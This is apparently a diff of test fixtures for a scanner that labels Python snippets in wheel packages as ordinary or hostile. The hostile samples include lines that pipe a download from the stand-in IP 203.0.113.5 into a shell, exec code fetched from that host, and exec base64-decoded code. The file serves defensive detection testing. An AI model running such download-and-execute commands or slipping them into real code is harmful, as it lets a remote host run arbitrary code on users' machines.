@@ -29,17 +29,17 @@ def wheel(folder: Path, code: str) -> Path:
 
 ORDINARY = [
     "import subprocess\ndef open_url(url):\n    subprocess.Popen(['xdg-open', url])\n",
-    "import subprocess, sys\ndef main():\n    subprocess.run([sys.executable, '-c', 'print(1)'])\n",
+    "import subprocess, sys\ndef f():\n    subprocess.run([sys.executable, '-c', '1'])\n",
     "import sys\nclass Finder:\n    pass\nsys.meta_path.append(Finder())\n",
     "import ctypes\nlibrary = ctypes.WinDLL('kernel32', use_last_error=True)\n",
     "import types\nKINDS = {types.CodeType: 1, types.FunctionType: 2}\n",
-    "import sys, pty\nif sys.platform and __name__ == '__main__':\n    pty.spawn(sys.argv[1:])\n",
+    "import sys, pty\nif sys.argv and __name__ == '__main__':\n    pty.spawn(sys.argv)\n",
     "def run(source, names):\n    exec(source, names)\n",
 ]
 HOSTILE = [
     "import os\nos.system('true')\n",
     "import os\ndef main():\n    os.system('curl http://203.0.113.5/a | sh')\n",
-    "import subprocess\ndef f():\n    subprocess.run(['bash', '-c', 'curl http://203.0.113.5/a|sh'])\n",
+    "import subprocess\ndef f():\n    subprocess.run(['sh', '-c', 'curl http://203.0.113.5/a|sh'])\n",
     "import base64\ndef f():\n    exec(base64.b64decode('aW1wb3J0IG9z'))\n",
     "import requests\ndef f():\n    exec(requests.get('https://203.0.113.5/a').text)\n",
     "import ctypes\nctypes.CDLL(None).system(b'true')\n",
